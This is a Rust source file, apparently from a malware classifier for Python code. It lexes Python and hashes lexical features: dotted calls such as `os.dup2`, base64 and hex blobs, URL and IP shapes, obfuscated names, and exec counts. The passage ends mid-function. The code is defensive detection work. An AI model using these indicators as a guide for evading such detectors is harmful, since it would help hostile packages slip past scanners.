//! Feature extraction: the single implementation shared by the trainer (`cargo xtask
//! train-python-model`) and by inference in the agent, so the two cannot drift apart.
//!
//! The source is read as bytes (any encoding, binary included) by a small hand-written Python
//! lexer. Comments are skipped entirely. Every feature is a hashed bucket in `[0, N_BUCKETS)`
//! with a binary value (present or not); a document's vector is L2-normalised (every present
//! feature has the value `1/sqrt(nnz)`). Feature families, each in its own hash namespace:
//!
//! - identifier / keyword unigrams (case kept), dotted pairs (`os.dup2`, `base64.b64decode`),
//!   imported module names (`import x`, `from x import`, `__import__("x")`);
//! - token bigrams and trigrams over a normalised token stream (names, operators, number classes,
//!   string classes or short string literals, statement ends);
//! - string literals: length class, shape (base64-like, hex-like, `\x`-escaped, URL, IPv4,
//!   host name, path), URL scheme, lower-cased word unigrams and bigrams from the text (URL host
//!   names are masked so that no particular host can be learnt);
//! - identifier shape (`IlIlIl`-style or `_0x…` obfuscated names, long random-looking names);
//! - bucketed whole-file statistics, emitted only when something notable is present: long lines,
//!   long strings, high string entropy, base64/hex/`\x` volume, exec/eval count, exec without any
//!   `def`, exec next to a blob, URLs, IPs, obfuscated names, non-ASCII or NUL bytes, truncation.
//!   Plain size, line counts and "what the file starts with" are deliberately not features: in the
//!   training data they separate packages from libraries without saying anything about behaviour.
//!
//! n-grams never include the file start, and an empty file has no features at all.
//!
//! Only the first [`MAX_SCAN_BYTES`] bytes are read.

/// Version of the feature definition. A model records the version it was trained with and is
/// refused by a build that cannot extract it. Bump on ANY change to this file's output.
/// Version 1 is the lexical features alone; version 5 adds the behaviour features
/// ([`crate::behaviour`]) of the first [`crate::behaviour::MAX_BEHAVIOUR_BYTES`], with import-time
/// sinks told apart by whether anything tracked reaches them and process starts by their form
/// (version 2 read the whole window, version 3 had one import-time fact per sink, version 4 no
/// process forms; none of them is extracted any more). This build extracts 1 and 5, each for the
/// models trained with it.
pub const FEATURE_VERSION: u32 = 5;
/// The lexical features alone.
pub const LEXICAL_FEATURE_VERSION: u32 = 1;
/// log2 of the number of hash buckets.
pub const HASH_BITS: u32 = 18;
/// Number of hash buckets (feature dimension).
pub const N_BUCKETS: usize = 1 << HASH_BITS;
/// Features are extracted from at most this many leading bytes of the code.
pub const MAX_SCAN_BYTES: usize = 256 * 1024;

/// At most this many words are taken from one string literal.
const MAX_WORDS_PER_STRING: usize = 48;
/// At most this many string words are taken from one file.
const MAX_WORDS_PER_FILE: usize = 16_384;
/// Entropy is measured over at most this many bytes of a string.
const ENTROPY_WINDOW: usize = 4096;

/// A sparse binary feature vector in two blocks: the lexical features (sorted, unique bucket
/// indices, all with the same L2-normalised value) and the behaviour features
/// ([`crate::behaviour`]: sorted, unique, each of value 1, so that a few facts about what the code
/// does are not diluted by thousands of tokens).
#[derive(Debug, Default, Clone)]
pub struct FeatureVec {
    idx: Vec<u32>,
    beh: Vec<u32>,
}

impl FeatureVec {
    pub fn new() -> FeatureVec {
        FeatureVec { idx: Vec::with_capacity(4096), beh: Vec::new() }
    }

    pub fn clear(&mut self) {
        self.idx.clear();
        self.beh.clear();
    }

    /// Sorted, unique bucket indices of the behaviour features (each of value 1).
    pub fn behaviour(&self) -> &[u32] {
        &self.beh
    }


    /// Sorted, unique bucket indices of the present features.
    pub fn indices(&self) -> &[u32] {
        &self.idx
    }

    /// The value of every present lexical feature (L2 normalisation of a binary vector).
    pub fn value(&self) -> f32 {
        if self.idx.is_empty() {
            0.0
        } else {
            1.0 / (self.idx.len() as f32).sqrt()
        }
    }

    pub fn len(&self) -> usize {
        self.idx.len()
    }

    pub fn is_empty(&self) -> bool {
        self.idx.is_empty()
    }

    /// Allocated capacity (entries), to let long-lived buffers shrink after a huge input.
    pub(crate) fn capacity(&self) -> usize {
        self.idx.capacity()
    }

    #[inline]
    fn push(&mut self, h: u64) {
        self.idx.push(bucket(h));
    }

    fn finish(&mut self) {
        // A big file repeats its features many times over (a 256 KiB script: ~10x); sorting every
        // occurrence cost a third of its scoring time. Above a few hundred entries the occurrences
        // are marked in a bitmap of all buckets instead, which is read back in order.
        if self.idx.len() < BITMAP_FROM || !self.dedup_through_bitmap() {
            self.idx.sort_unstable();
            self.idx.dedup();
        }
    }

    /// Sorted, unique `idx` through [`SEEN`]; false (nothing done) if the bitmap is in use.
    fn dedup_through_bitmap(&mut self) -> bool {
        with_bits(|mut bits| {
            for &b in &self.idx {
                bits.set(b);
            }
            self.idx.clear();
            bits.drain_into(&mut self.idx);
        })
    }
}

/// Runs `f` on [`SEEN`] (clear, and left clear by `f`); false (nothing done) if it is in use.
fn with_bits(f: impl FnOnce(Bits)) -> bool {
    SEEN.with(|cell| {
        let Ok(mut seen) = cell.try_borrow_mut() else { return false };
        f(Bits(seen.get_or_insert_with(|| vec![0u64; N_BUCKETS / 64].into_boxed_slice())));
        true
    })
}

/// A bitmap of all buckets, as a [`Sink`]: a big file's features go straight into it, instead of
/// into a list that would hold every occurrence (a 256 KiB script has ~10 per feature).
struct Bits<'a>(&'a mut [u64]);

impl Bits<'_> {
    #[inline(always)]
    fn set(&mut self, b: u32) {
        self.0[(b as usize >> 6) & (N_BUCKETS / 64 - 1)] |= 1 << (b & 63);
    }

    /// The set buckets, in order, appended to `out`; leaves the bitmap clear.
    fn drain_into(&mut self, out: &mut Vec<u32>) {
        for (w, word) in self.0.iter_mut().enumerate() {
            let mut bits = std::mem::take(word);
            while bits != 0 {
                out.push((w as u32) << 6 | bits.trailing_zeros());
                bits &= bits - 1;
            }
        }
    }
}

impl Drop for Bits<'_> {
    fn drop(&mut self) {
        // The bitmap must be clear between uses, whatever happened in between.
        if std::thread::panicking() {
            self.0.fill(0);
        }
    }
}

impl Sink for Bits<'_> {
    const EXPLAIN: bool = false;
    #[inline(always)]
    fn add(&mut self, h: u64, _what: &dyn Fn() -> String) {
        self.set(bucket(h));
    }
}

/// Code from this many bytes on is extracted straight into the bitmap (it has well over
/// [`BITMAP_FROM`] feature occurrences).
const BITS_FROM: usize = 4096;

/// Feature occurrences from which [`FeatureVec::finish`] de-duplicates through [`SEEN`].
const BITMAP_FROM: usize = 1024;

thread_local! {
    /// One bit per bucket (32 KiB), all zero between uses.
    static SEEN: std::cell::RefCell<Option<Box<[u64]>>> = const { std::cell::RefCell::new(None) };
}

/// Where extracted features go: a [`FeatureVec`] (names never computed) or an explanation.
/// Both run the very same extraction code.
trait Sink {
    const EXPLAIN: bool;
    fn add(&mut self, h: u64, what: &dyn Fn() -> String);
}

impl Sink for FeatureVec {
    const EXPLAIN: bool = false;
    #[inline(always)]
    fn add(&mut self, h: u64, _what: &dyn Fn() -> String) {
        self.push(h);
    }
}

struct Explainer(Vec<(u32, String)>);

impl Sink for Explainer {
    const EXPLAIN: bool = true;
    fn add(&mut self, h: u64, what: &dyn Fn() -> String) {
        self.0.push((bucket(h), what()));
    }
}

#[inline]
fn bucket(h: u64) -> u32 {
    (mix(h) >> (64 - HASH_BITS)) as u32
}

fn lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(&b[..b.len().min(40)]).into_owned()
}

/// Human-readable names of the lexical features of `code`: (bucket, name) pairs, sorted, for
/// debugging and for reports. Runs the same extraction as [`features`].
pub fn explain(code: &[u8]) -> Vec<(u32, String)> {
    let mut e = Explainer(Vec::new());
    extract(code, &mut e);
    e.0.sort();
    e.0.dedup();
    e.0
}

/// The behaviour features of `code`: (bucket, name) pairs, sorted by bucket.
pub fn explain_behaviour(code: &[u8]) -> Vec<(u32, String)> {
    let mut v: Vec<(u32, String)> = crate::behaviour::behaviours(code).into_iter().map(|f| (bucket(behaviour_hash(&f)), format!("beh:{f}"))).collect();
    v.sort();
    v
}

/// The hash bucket of a behaviour fact ([`crate::behaviour::all_facts`]).
pub fn behaviour_bucket(fact: &str) -> u32 {
    bucket(behaviour_hash(fact))
}

fn behaviour_hash(fact: &str) -> u64 {
    fnv_from(0xbe4a_0000_0000_0002, fact.as_bytes())
}

// ---------------------------------------------------------------------------------------------
// hashing

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

#[inline]
fn fnv_from(mut h: u64, bytes: &[u8]) -> u64 {
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

#[inline]
fn fnv(bytes: &[u8]) -> u64 {
    fnv_from(FNV_OFFSET, bytes)
}

#[inline]
fn fnv_lower(bytes: &[u8]) -> u64 {
    let mut h = FNV_OFFSET;
    for &b in bytes {
        h ^= b.to_ascii_lowercase() as u64;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// splitmix64 finaliser.
#[inline]
fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[inline]
fn combine(a: u64, b: u64) -> u64 {
    combine_mixed(mix(a), b)
}

/// [`combine`] with `mix(a)` already at hand.
#[inline]
fn combine_mixed(mixed_a: u64, b: u64) -> u64 {
    mixed_a.rotate_left(23) ^ b.wrapping_mul(0x9e37_79b9_7f4a_7c15)
}

// namespaces (arbitrary distinct constants)
const NS_ID: u64 = 0x1001;
const NS_DOT: u64 = 0x1002;
const NS_IMPORT: u64 = 0x1003;
const NS_BIGRAM: u64 = 0x1004;
const NS_TRIGRAM: u64 = 0x1005;
const NS_STR_WORD: u64 = 0x1006;
const NS_STR_BIGRAM: u64 = 0x1007;
const NS_STR_SHAPE: u64 = 0x1008;
const NS_STR_LIT: u64 = 0x1009;
const NS_ID_SHAPE: u64 = 0x100a;
const NS_DENSE: u64 = 0x100b;
const NS_SCHEME: u64 = 0x100c;

#[inline]
fn ns(ns: u64, h: u64) -> u64 {
    combine(ns, h)
}

/// Hash of a named constant (class tokens, dense feature names).
#[inline]
const fn named(name: &str) -> u64 {
    let b = name.as_bytes();
    let mut h: u64 = 0x5151_5151_5151_5151;
    let mut i = 0;
    while i < b.len() {
        h ^= b[i] as u64;
        h = h.wrapping_mul(FNV_PRIME);
        i += 1;
    }
    h
}

/// Bucketed log2: 0 for 0, else 1 + floor(log2(x)).
#[inline]
fn log2b(x: usize) -> u64 {
    (usize::BITS - x.leading_zeros()) as u64
}

// ---------------------------------------------------------------------------------------------
// lexer

#[derive(Clone, Copy, Debug, PartialEq)]
enum Tok<'a> {
    Name(&'a [u8]),
    Str(&'a [u8]),
    Num(&'a [u8]),
    Op(&'a [u8]),
    Newline,
}

struct Lexer<'a> {
    s: &'a [u8],
    i: usize,
    depth: u32,
}

#[inline]
fn is_id_start(c: u8) -> bool {
    CLASSES[c as usize] & C_ID_START != 0
}

#[inline]
fn is_id_char(c: u8) -> bool {
    CLASSES[c as usize] & C_ID_CHAR != 0
}

fn is_string_prefix(id: &[u8]) -> bool {
    if id.is_empty() || id.len() > 2 {
        return false;
    }
    let mut seen = 0u8;
    for &c in id {
        let bit = match c.to_ascii_lowercase() {
            b'r' => 1,
            b'b' => 2,
            b'u' => 4,
            b'f' => 8,
            b't' => 16,
            _ => return false,
        };
        if seen & bit != 0 {
            return false;
        }
        seen |= bit;
    }
    true
}

const OPS3: [&[u8]; 5] = [b"**=", b"//=", b">>=", b"<<=", b"..."];
const OPS2: [&[u8]; 19] = [
    b"**", b"//", b"==", b"!=", b"<=", b">=", b"->", b"+=", b"-=", b"*=", b"/=", b"%=", b"&=", b"|=", b"^=", b":=",
    b"<<", b">>", b"@=",
];

/// The first characters of [`OPS3`] and [`OPS2`].
const MULTI_CHAR_OP_START: &[u8] = b"*/=!<>-+%&|^:@.";

impl<'a> Lexer<'a> {
    fn new(s: &'a [u8]) -> Self {
        Lexer { s, i: 0, depth: 0 }
    }

    /// Scans a string literal whose opening quote is at `self.i`; returns its body.
    fn string(&mut self) -> &'a [u8] {
        let s = self.s;
        let q = s[self.i];
        let triple = self.i + 2 < s.len() && s[self.i + 1] == q && s[self.i + 2] == q;
        if triple {
            self.i += 3;
            let start = self.i;
            while self.i < s.len() {
                // only a quote or a backslash can end or escape anything
                let Some(k) = memchr::memchr2(q, b'\\', &s[self.i..]) else { break };
                self.i += k;
                let c = s[self.i];
                if c == b'\\' {
                    self.i += 2;
                } else if c == q && self.i + 2 < s.len() && s[self.i + 1] == q && s[self.i + 2] == q {
                    let body = &s[start..self.i];
                    self.i += 3;
                    return body;
                } else {
                    self.i += 1;
                }
            }
            self.i = s.len();
            &s[start..]
        } else {
            self.i += 1;
            let start = self.i;
            while self.i < s.len() {
                let Some(k) = memchr::memchr3(q, b'\\', b'\n', &s[self.i..]) else { break };
                self.i += k;
                let c = s[self.i];
                if c == b'\\' {
                    // an escaped line break continues the literal; anything else is one char
                    self.i += 2;
                } else if c == q {
                    let body = &s[start..self.i];
                    self.i += 1;
                    return body;
                } else if c == b'\n' {
                    // unterminated: stop at the end of the line
                    return &s[start..self.i];
                } else {
                    self.i += 1;
                }
            }
            self.i = s.len();
            &s[start..]
        }
    }

    fn next_tok(&mut self) -> Option<Tok<'a>> {
        let s = self.s;
        loop {
            if self.i >= s.len() {
                return None;
            }
            let c = s[self.i];
            match c {
                b' ' | b'\t' | b'\r' | 0x0c | 0 => {
                    // a run at once (indentation), not a trip through the dispatch per byte
                    self.i += 1;
                    while self.i < s.len() && matches!(s[self.i], b' ' | b'\t' | b'\r' | 0x0c | 0) {
                        self.i += 1;
                    }
                }
                b'\n' => {
                    self.i += 1;
                    if self.depth == 0 {
                        return Some(Tok::Newline);
                    }
                }
                b'\\' => {
                    // line continuation (or a stray backslash)
                    self.i += 1;
                    if self.i < s.len() && s[self.i] == b'\r' {
                        self.i += 1;
                    }
                    if self.i < s.len() && s[self.i] == b'\n' {
                        self.i += 1;
                    }
                }
                b'#' => {
                    self.i = memchr::memchr(b'\n', &s[self.i..]).map_or(s.len(), |k| self.i + k);
                }
                b'\'' | b'"' => return Some(Tok::Str(self.string())),
                _ if is_id_start(c) => {
                    let start = self.i;
                    while self.i < s.len() && is_id_char(s[self.i]) {
                        self.i += 1;
                    }
                    let id = &s[start..self.i];
                    if self.i < s.len() && (s[self.i] == b'\'' || s[self.i] == b'"') && is_string_prefix(id) {
                        return Some(Tok::Str(self.string()));
                    }
                    return Some(Tok::Name(id));
                }
                _ if c.is_ascii_digit() || (c == b'.' && self.i + 1 < s.len() && s[self.i + 1].is_ascii_digit()) => {
                    let start = self.i;
                    let hex = c == b'0' && self.i + 1 < s.len() && (s[self.i + 1] | 0x20) == b'x';
                    while self.i < s.len() {
                        let d = s[self.i];
                        let exponent_sign = (d == b'+' || d == b'-') && !hex && (s[self.i - 1] | 0x20) == b'e';
                        if d.is_ascii_alphanumeric() || d == b'_' || d == b'.' || exponent_sign {
                            self.i += 1;
                        } else {
                            break;
                        }
                    }
                    return Some(Tok::Num(&s[start..self.i]));
                }
                _ => {
                    let rest = &s[self.i..];
                    let mut len = 1;
                    if !MULTI_CHAR_OP_START.contains(&c) {
                        // `(`, `,`, `)`, ...: one character, no table to search
                    } else if OPS3.iter().any(|op| rest.starts_with(op)) {
                        len = 3;
                    } else if OPS2.iter().any(|op| rest.starts_with(op)) {
                        len = 2;
                    }
                    match c {
                        b'(' | b'[' | b'{' => self.depth = self.depth.saturating_add(1),
                        b')' | b']' | b'}' => self.depth = self.depth.saturating_sub(1),
                        _ => {}
                    }
                    let op = &s[self.i..self.i + len];
                    self.i += len;
                    return Some(Tok::Op(op));
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// string literals

#[derive(Clone, Copy, PartialEq)]
enum Shape {
    Empty,
    Base64,
    Hex,
    Escaped,
    Url,
    Ip,
    Host,
    Path,
    Text,
    Other,
}

impl Shape {
    const ALL: [Shape; 10] = [
        Shape::Empty,
        Shape::Base64,
        Shape::Hex,
        Shape::Escaped,
        Shape::Url,
        Shape::Ip,
        Shape::Host,
        Shape::Path,
        Shape::Text,
        Shape::Other,
    ];

    /// `named(self.name())`, computed at compile time: a file has thousands of strings.
    #[inline]
    fn hash(self) -> u64 {
        const HASHES: [u64; 10] = {
            let mut h = [0; 10];
            let mut i = 0;
            while i < Shape::ALL.len() {
                h[Shape::ALL[i] as usize] = named(Shape::ALL[i].name());
                i += 1;
            }
            h
        };
        HASHES[self as usize]
    }

    const fn name(self) -> &'static str {
        match self {
            Shape::Empty => "S_EMPTY",
            Shape::Base64 => "S_B64",
            Shape::Hex => "S_HEX",
            Shape::Escaped => "S_ESC",
            Shape::Url => "S_URL",
            Shape::Ip => "S_IP",
            Shape::Host => "S_HOST",
            Shape::Path => "S_PATH",
            Shape::Text => "S_TEXT",
            Shape::Other => "S_OTHER",
        }
    }
}

const HOST_TLDS: &[&[u8]] = &[
    b"com",
    b"net",
    b"org",
    b"io",
    b"ru",
    b"cn",
    b"xyz",
    b"top",
    b"info",
    b"invalid",
    b"example",
    b"test",
    b"local",
    b"localhost",
    b"me",
    b"co",
    b"tk",
    b"ml",
    b"ga",
    b"cf",
    b"gq",
    b"onion",
    b"site",
    b"online",
    b"dev",
    b"app",
    b"cc",
    b"pw",
    b"su",
    b"biz",
    b"us",
    b"uk",
    b"de",
    b"fr",
    b"in",
    b"ir",
    b"link",
    b"live",
    b"club",
    b"store",
    b"tech",
    b"cloud",
    b"host",
    b"space",
    b"fun",
    b"lol",
    b"sh",
    b"ly",
    b"gg",
    b"to",
];

/// `a.b.c.d` with 1-3 digit parts at the start of `s`; returns its length.
fn ipv4_at(s: &[u8]) -> Option<usize> {
    let mut i = 0;
    for part in 0..4 {
        let start = i;
        while i < s.len() && s[i].is_ascii_digit() && i - start < 3 {
            i += 1;
        }
        if i == start {
            return None;
        }
        if part < 3 {
            if i < s.len() && s[i] == b'.' {
                i += 1;
            } else {
                return None;
            }
        }
    }
    if i < s.len() && s[i].is_ascii_digit() {
        return None;
    }
    Some(i)
}

fn contains_ipv4(s: &[u8]) -> bool {
    if memchr::memchr(b'.', s).is_none() {
        return false;
    }
    let mut i = 0;
    while i < s.len() {
        if s[i].is_ascii_digit()
            && (i == 0 || !(s[i - 1].is_ascii_digit() || s[i - 1] == b'.'))
            && ipv4_at(&s[i..]).is_some()
        {
            return true;
        }
        i += 1;
    }
    false
}

fn looks_host(s: &[u8]) -> bool {
    if s.len() < 4 || s.len() > 253 || !s.contains(&b'.') {
        return false;
    }
    let mut end = s.len();
    // allow host:port
    if let Some(p) = s.iter().rposition(|&c| c == b':') {
        if p + 1 < s.len() && s[p + 1..].iter().all(|c| c.is_ascii_digit()) {
            end = p;
        }
    }
    let h = &s[..end];
    if !h.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-') {
        return false;
    }
    let tld = match h.iter().rposition(|&c| c == b'.') {
        Some(p) => &h[p + 1..],
        None => return false,
    };
    HOST_TLDS.iter().any(|t| t.eq_ignore_ascii_case(tld))
}

/// Byte classes for [`shape_of`] and the lexer, one bit each.
const C_B64: u8 = 1;
const C_WS: u8 = 2;
const C_HEX: u8 = 4;
const C_UPPER: u8 = 8;
const C_LOWER: u8 = 16;
const C_DIGIT: u8 = 32;
/// Can start an identifier (for the lexer).
const C_ID_START: u8 = 64;
/// Can continue an identifier (for the lexer).
const C_ID_CHAR: u8 = 128;

/// The classes of every byte value.
const CLASSES: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        let mut f = 0;
        if c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'=' || c == b'-' || c == b'_' {
            f |= C_B64;
        }
        if c.is_ascii_whitespace() {
            f |= C_WS;
        }
        if c.is_ascii_hexdigit() {
            f |= C_HEX;
        }
        if c.is_ascii_uppercase() {
            f |= C_UPPER;
        } else if c.is_ascii_lowercase() {
            f |= C_LOWER;
        } else if c.is_ascii_digit() {
            f |= C_DIGIT;
        }
        if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 {
            f |= C_ID_START;
        }
        if c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80 {
            f |= C_ID_CHAR;
        }
        t[i] = f;
        i += 1;
    }
    t
};

fn shape_of(body: &[u8]) -> Shape {
    let n = body.len();
    if n == 0 {
        return Shape::Empty;
    }
    // `\x..`, `\u....` and octal escapes; backslashes are rare, so they are found by memchr.
    let esc = memchr::memchr_iter(b'\\', body)
        .filter(|&i| i + 1 < n && matches!(body[i + 1], b'x' | b'u' | b'0'..=b'7'))
        .count();
    let (mut b64, mut ws, mut hex, mut upper, mut lower, mut digit) = (0, 0, 0, 0, 0, 0);
    let mut other = false;
    for &c in body {
        let f = CLASSES[c as usize];
        b64 += (f & C_B64 != 0) as usize;
        ws += (f & C_WS != 0) as usize;
        hex += (f & C_HEX != 0) as usize;
        upper += (f & C_UPPER != 0) as usize;
        lower += (f & C_LOWER != 0) as usize;
        digit += (f & C_DIGIT != 0) as usize;
        // A byte of neither the base64 alphabet nor whitespace rules out Base64 and Hex (hex
        // digits are in the alphabet); after that only whether there is whitespace matters,
        // and once there is, the counts are not read: text (docstrings) stops here.
        other |= f & (C_B64 | C_WS) == 0;
        if other && ws > 0 {
            break;
        }
    }
    if esc >= 4 && esc * 4 * 2 >= n {
        return Shape::Escaped;
    }
    if n >= 16 && hex + ws == n && hex >= 16 && digit > 0 {
        return Shape::Hex;
    }
    if n >= 24 && b64 + ws == n && b64 >= 24 && upper > 0 && lower > 0 && digit > 0 && ws * 16 <= n {
        return Shape::Base64;
    }
    if find_url(body).is_some() {
        return Shape::Url;
    }
    if ipv4_at(body).is_some() && body.len() <= 21 {
        return Shape::Ip;
    }
    if looks_host(body) {
        return Shape::Host;
    }
    if (body[0] == b'/' || body.starts_with(b"~/") || body.starts_with(b"./")) && ws == 0 {
        return Shape::Path;
    }
    if ws > 0 {
        return Shape::Text;
    }
    Shape::Other
}

/// Where `://` is in `hay`: a searcher built once, not per string literal.
fn find_url(hay: &[u8]) -> Option<usize> {
    static FINDER: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"://"));
    FINDER.find(hay)
}

// ---------------------------------------------------------------------------------------------
// extraction

struct Stats {
    n_exec: usize,
    n_def: usize,
    n_obf_ids: usize,
    n_strings: usize,
    max_str: usize,
    b64_bytes: usize,
    hex_bytes: usize,
    esc_strings: usize,
    max_entropy_x4: u64,
    words: usize,
    n_urls: usize,
    n_ips: usize,
}

/// `counts` must be all zero, and is left so.
fn entropy_x4(s: &[u8], counts: &mut [u32; 256]) -> u64 {
    let s = &s[..s.len().min(ENTROPY_WINDOW)];
    // Only the byte values present are visited (in ascending order, as a full pass over
    // `counts` would sum them) and reset: a file has thousands of strings, most of them short.
    let mut present = [0u64; 4];
    for &b in s {
        counts[b as usize] += 1;
        present[(b >> 6) as usize] |= 1 << (b & 63);
    }
    let n = s.len() as f64;
    let mut h = 0.0f64;
    for (w, &bits) in present.iter().enumerate() {
        let mut bits = bits;
        while bits != 0 {
            let b = w << 6 | bits.trailing_zeros() as usize;
            let p = std::mem::take(&mut counts[b]) as f64 / n;
            h -= p * p.log2();
            bits &= bits - 1;
        }
    }
    (h * 4.0) as u64
}

fn id_shape(id: &[u8]) -> Option<&'static str> {
    if id.len() >= 6 && id.iter().all(|c| matches!(c, b'I' | b'l' | b'1' | b'_' | b'O' | b'0')) {
        return Some("ID_ILO");
    }
    if id.len() >= 4 && (id.starts_with(b"_0x") || id.starts_with(b"__0x")) {
        return Some("ID_0X");
    }
    if id.len() >= 16 {
        let digits = id.iter().filter(|c| c.is_ascii_digit()).count();
        let upper = id.iter().filter(|c| c.is_ascii_uppercase()).count();
        let lower = id.iter().filter(|c| c.is_ascii_lowercase()).count();
        let unders = id.iter().filter(|&&c| c == b'_').count();
        if digits >= 2 && upper >= 2 && lower >= 2 && unders <= 1 {
            return Some("ID_RANDOM");
        }
    }
    if id.iter().any(|&c| c >= 0x80) {
        return Some("ID_NONASCII");
    }
    None
}

fn string_features<S: Sink>(body: &[u8], fv: &mut S, st: &mut Stats, counts: &mut [u32; 256]) -> u64 {
    let n = body.len();
    st.n_strings += 1;
    st.max_str = st.max_str.max(n);
    let shape = shape_of(body);
    fv.add(ns(NS_STR_SHAPE, shape.hash()), &|| format!("str_shape:{}", shape.name()));
    fv.add(ns(NS_STR_SHAPE, combine(named("len"), log2b(n))), &|| format!("str_len_log2:{}", log2b(n)));
    fv.add(ns(NS_STR_SHAPE, combine(shape.hash(), log2b(n))), &|| {
        format!("str_shape_len:{}/{}", shape.name(), log2b(n))
    });
    if n >= 20 {
        let e = entropy_x4(body, counts);
        st.max_entropy_x4 = st.max_entropy_x4.max(e);
    }
    match shape {
        Shape::Base64 => st.b64_bytes += n,
        Shape::Hex => st.hex_bytes += n,
        Shape::Escaped => st.esc_strings += 1,
        _ => {}
    }
    // URL schemes; URL host names are masked from the words below
    let mut masks: [(usize, usize); 4] = [(0, 0); 4];
    let mut n_masks = 0;
    // shape_of already looked for "://" in every literal it did not call escaped, hex or base64
    // (and the last two have no ':').
    if shape == Shape::Url || (shape == Shape::Escaped && n > 8 && n < 65536 && find_url(body).is_some()) {
        let mut from = 0;
        while let Some(p) = find_url(&body[from..]) {
            let p = from + p;
            st.n_urls += 1;
            let mut s0 = p;
            while s0 > 0 && p - s0 < 16 && (body[s0 - 1].is_ascii_alphanumeric() || body[s0 - 1] == b'+') {
                s0 -= 1;
            }
            fv.add(ns(NS_SCHEME, fnv_lower(&body[s0..p])), &|| {
                format!("url_scheme:{}", lossy(&body[s0..p]).to_lowercase())
            });
            let hs = p + 3;
            let mut he = hs;
            while he < n && !matches!(body[he], b'/' | b'?' | b'#' | b'"' | b'\'' | b' ' | b'\n' | b'\t' | b'{' | b'}')
            {
                he += 1;
            }
            let host = &body[hs..he];
            if ipv4_at(host).is_some() {
                fv.add(ns(NS_SCHEME, named("url_ip")), &|| "url_ip".into());
            }
            if host.contains(&b':') {
                fv.add(ns(NS_SCHEME, named("url_port")), &|| "url_port".into());
            }
            if n_masks < masks.len() {
                masks[n_masks] = (hs, he);
                n_masks += 1;
            }
            from = he.max(p + 3);
            if st.n_urls > 64 {
                break;
            }
        }
    }
    if shape != Shape::Ip && n <= 4096 && contains_ipv4(body) {
        st.n_ips += 1;
        fv.add(ns(NS_STR_SHAPE, named("has_ip")), &|| "str_has_ip".into());
    } else if shape == Shape::Ip {
        st.n_ips += 1;
    }
    // words
    if !matches!(shape, Shape::Base64 | Shape::Hex | Shape::Ip | Shape::Host | Shape::Escaped) {
        let mut i = 0;
        let mut taken = 0;
        let mut prev: u64 = named("^");
        let mut prev_w: &[u8] = b"^";
        while i < n && taken < MAX_WORDS_PER_STRING && st.words < MAX_WORDS_PER_FILE {
            if !body[i].is_ascii_alphabetic() {
                i += 1;
                continue;
            }
            let start = i;
            while i < n && body[i].is_ascii_alphabetic() {
                i += 1;
            }
            let w = &body[start..i];
            if masks[..n_masks].iter().any(|&(a, b)| start >= a && start < b) {
                continue;
            }
            if w.len() < 2 || w.len() > 24 {
                continue;
            }
            let h = fnv_lower(w);
            fv.add(ns(NS_STR_WORD, h), &|| format!("str_word:{}", lossy(w).to_lowercase()));
            fv.add(ns(NS_STR_BIGRAM, combine(prev, h)), &|| {
                format!("str_words:{} {}", lossy(prev_w).to_lowercase(), lossy(w).to_lowercase())
            });
            prev = h;
            prev_w = w;
            taken += 1;
            st.words += 1;
        }
    }
    // the token that stands for this literal in the n-gram stream
    if n <= 16 && matches!(shape, Shape::Other | Shape::Path | Shape::Text) {
        let h = fnv_lower(body);
        fv.add(ns(NS_STR_LIT, h), &|| format!("str_lit:{:?}", lossy(body).to_lowercase()));
        combine(named("lit"), h)
    } else {
        shape.hash()
    }
}

fn num_class(num: &[u8]) -> &'static str {
    if num.len() > 1 && (num[1] | 0x20) == b'x' {
        return "N_HEX";
    }
    if num.iter().any(|&c| c == b'.' || (c | 0x20) == b'e' || (c | 0x20) == b'j') {
        return "N_FLOAT";
    }
    let mut v: u64 = 0;
    for &c in num {
        if c.is_ascii_digit() {
            v = v.saturating_mul(10).saturating_add((c - b'0') as u64);
        }
    }
    match v {
        0 | 1 => "N_01",
        2..=255 => "N_SMALL",
        256..=1023 => "N_MID",
        1024..=65535 => "N_PORTLIKE",
        _ => "N_BIG",
    }
}

/// Extracts the features of `code` (first [`MAX_SCAN_BYTES`] bytes) into `out` (cleared first).
/// Never panics, whatever the bytes.
pub fn features(code: &[u8], out: &mut FeatureVec) {
    features_for(FEATURE_VERSION, code, out);
}

/// The features of a given feature version (see [`FEATURE_VERSION`]) of `code` into `out`.
pub fn features_for(version: u32, code: &[u8], out: &mut FeatureVec) {
    out.clear();
    let direct = code.len() >= BITS_FROM
        && with_bits(|mut bits| {
            extract(code, &mut bits);
            bits.drain_into(&mut out.idx);
        });
    if !direct {
        extract(code, out);
        out.finish();
    }
    if version == LEXICAL_FEATURE_VERSION {
        return;
    }
    // `behaviours` reads its own, smaller window.
    for f in crate::behaviour::behaviours(code) {
        out.beh.push(bucket(behaviour_hash(&f)));
    }
    out.beh.sort_unstable();
    out.beh.dedup();
}

fn h_newline_const() -> u64 {
    named("NL")
}

/// Name of a token of the n-gram stream (explanations only; mirrors `string_features`).
fn tok_name(tok: &Tok) -> String {
    match tok {
        Tok::Name(id) | Tok::Op(id) => lossy(id),
        Tok::Num(n) => num_class(n).to_string(),
        Tok::Newline => "NL".into(),
        Tok::Str(b) => {
            let shape = shape_of(b);
            if b.len() <= 16 && matches!(shape, Shape::Other | Shape::Path | Shape::Text) {
                format!("{:?}", lossy(b).to_lowercase())
            } else {
                shape.name().to_string()
            }
        }
    }
}

fn extract<S: Sink>(code: &[u8], out: &mut S) {
    let truncated = code.len() > MAX_SCAN_BYTES;
